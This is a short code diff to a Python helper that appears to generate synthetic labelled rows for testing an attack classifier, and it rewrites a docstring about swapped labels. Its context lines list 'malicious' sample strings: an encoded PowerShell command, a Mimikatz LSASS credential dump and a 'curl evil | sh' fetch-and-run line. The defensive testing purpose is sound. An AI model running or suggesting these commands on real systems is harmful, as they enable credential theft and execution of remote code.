@@ -25,7 +25,7 @@ def rows_of(site: str, rows: int, *, swapped: bool = False) -> list[dict[str, An
     Args:
         site: is named in the texts.
         rows: a third of them attacks.
-        swapped: whether this site calls one kind of attack benign, and one kind of the rest an attack.
+        swapped: whether it calls one kind of attack benign, and one benign kind an attack.
     """
     words = {
         "malicious": ["powershell -enc JAB", "mimikatz lsass dump", "curl evil | sh"],
